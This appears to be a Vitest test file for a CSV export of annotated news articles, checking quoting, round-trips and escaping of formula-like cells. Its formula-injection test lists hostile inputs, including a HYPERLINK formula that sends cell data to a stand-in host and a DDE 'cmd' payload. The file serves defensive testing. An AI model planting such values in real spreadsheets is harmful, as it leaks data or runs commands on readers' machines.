import { describe, expect, test } from 'vitest';
import { articlesAsCsv, articlesToCsv } from '../../../lib/export/csv';
import { HOSTILE, madeUpBundle, madeUpNote, madeUpPassages, madeUpTalk } from './made-up';

/** A reader of RFC 4180 of its own: rows of cells. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy;
  for (const [, raw = '', end] of text.matchAll(cells)) {
    const cell = raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw;
    rows.at(-1)?.push(cell);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

function records(text: string): Record<string, string | undefined>[] {
  const [header = [], ...rows] = readCsv(text);
  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index]])));
}

describe('articlesToCsv', () => {
  test('writes one row a note with its article, byte for byte', () => {
    const bundle = madeUpBundle({
      article: { tags: ['Ukraine', 'Nato'] },
      notes: [
        madeUpNote({ text: 'Er sagte: "Nein", dann ja.' }),
        madeUpNote({ subject: { on: 'entity', name: 'Mark Rutte', kind: 'person' }, text: 'zwei\nZeilen' }),
      ],
    });
    const article =
      'Treffen in Kiew,Ada Feder,Die Zeitung,https://zeitung.example/politik/treffen-in-kiew,2026-03-01,' +
      '2026-03-02T12:00:00.000Z,Ukraine; Nato,Mark Rutte sprach für die Nato.,Mark Rutte,Nato,,,,,,,,,,,';
    const times = '2026-03-02T12:00:00.000Z,2026-03-02T12:00:00.000Z';
    const expected = [
      'Created at,Modified at,Type,About,Comment,Title,Author,Site,URL,Published,Saved at,Tags,Summary,People,Organizations,' +
        'Quote,Quotation kind,Cue,Confidence,Start,End,Quote URL,Color,Note tags,Paragraph,Place',
      `${times},Page note,,"Er sagte: ""Nein"", dann ja.",${article}`,
      `${times},Person note,Mark Rutte,"zwei\nZeilen",${article}`,
      '',
    ].join('\r\n');
    expect(Buffer.from(articlesToCsv([bundle]))).toEqual(Buffer.from(expected));
  });

  test('has a row for each quotation: words, speaker, kind, cue, confidence and place', () => {
    const { text } = madeUpTalk().article;
    const rows = records(articlesToCsv([madeUpTalk()]));
    expect(
      rows.map(({ Type, About, Quote, Cue, Confidence, ...row }) => [
        [Type, row['Quotation kind'], Confidence].join(),
        `${About} ${Cue}: ${Quote}`,
        text.slice(Number(row.Start), Number(row.End)),
      ]),
    ).toEqual([
      [
        'Quotation,direct,0.95',
        'Mark Rutte sagte: „Wir bleiben“ … „bis zum Ende.“',
        '„Wir bleiben“, sagte Mark Rutte, „bis zum Ende.“',
      ],
      ['Quotation,indirect,0.70', 'Ein Fischer meinte: es regne bald', 'es regne bald'],
      ['Quotation,mixed,0.30', ' : „keine Angst“', 'keine Angst'],
    ]);
    expect(rows[1]?.['Quote URL']).toMatch(/^https:.*#:~:text=es%20regne%20bald$/);
  });

  test('a note on a passage has its words, paragraph, color, tags, link, and what became of it', () => {
    const rows = records(articlesToCsv([madeUpPassages()]));
    const cells = rows.map(({ Type, About, Quote, Color, Place, ...row }) =>
      [Type, About, Quote, Color, Place, row['Note tags'], row.Comment].join(' | '),
    );
    expect(cells).toEqual([
      'Passage note | Nato | Man hörte zu. | green | certain | wichtig; zwei Worte | Wer **denn**?',
      'Passage note |  | die Nato | yellow | likely |  | ',
      'Passage note | Ja, sofort. | ganz verschwunden | pink | orphan |  | Das stand hier.',
    ]);
    expect(rows[2]?.Paragraph).toBe('Was ganz verschwunden ist.');
    expect(rows[2]?.['Quote URL']).toMatch(/#:~:text=ganz%20verschwunden$/);
  });

  test('an article without notes has a row of its own', () => {
    const [row] = records(articlesToCsv([madeUpBundle({ notes: [] })]));
    expect(row).toMatchObject({ Comment: '', Type: '', Title: 'Treffen in Kiew' });
  });

  test('an article without analysis has empty columns', () => {
    const [row] = records(articlesToCsv([madeUpBundle({ analysis: undefined })]));
    expect(row).toMatchObject({ People: '', Organizations: '', Summary: '' });
  });

  test('no articles make a header', () => {
    expect(readCsv(articlesToCsv([]))).toHaveLength(1);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '   =1',
    '\u00A0=1',
    '\u3000=1',
    '\u200B=1',
    '\uFEFF=1',
    '\u0000=1',
    '\u202E=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    ' ＝1',
    '﹦1',
    '﹣1',
    '−1',
    '=HYPERLINK("https://boese.example?"&A1,"x")',
    "=cmd|'/c calc'!A1",
    '\tTab davor',
  ])('%j is no formula', (text) => {
    for (const [row] of [
      records(articlesToCsv([madeUpBundle({ notes: [madeUpNote({ text })] })])),
      records(articlesToCsv([madeUpBundle({ notes: [madeUpNote()], article: { title: text } })])),
    ]) {
      const cells = [row?.Comment, row?.Title];
      expect(cells.filter((cell) => cell?.startsWith("'"))).toHaveLength(1);
    }
  });

  test.each([
    ...HOSTILE.slice(0, -1),
    'Zahl 5-3=2',
    'a@b.example',
    '"',
    '""',
    ',',
    ' vorn und hinten ',
    'eins;zwei\ttab',
    '__proto__',
    '😀'.repeat(500),
    'שלום',
  ])('%j is read back as it was', (text) => {
    const [row] = records(articlesToCsv([madeUpBundle({ notes: [madeUpNote({ text })] })]));
    expect(row?.Comment).toBe(text);
  });

  test('every row has as many cells as the header, whatever stands in them', () => {
    const notes = HOSTILE.map((text) => madeUpNote({ text: `${text}"\r\n,${text}` }));
    const rows = readCsv(articlesToCsv([madeUpBundle({ notes, article: { title: '",\r\n"' } })]));
    expect(rows).toHaveLength(HOSTILE.length + 1);
    expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([26]));
  });
});

test('in pieces it is the same', async () => {
  const bundles = [madeUpBundle(), madeUpBundle({ article: { title: 'Zwei' } })];
  const pieces: string[] = [];
  for await (const piece of articlesAsCsv(bundles)) pieces.push(piece);
  expect(pieces).toHaveLength(3);
  expect(pieces.join('')).toBe(articlesToCsv(bundles));
});
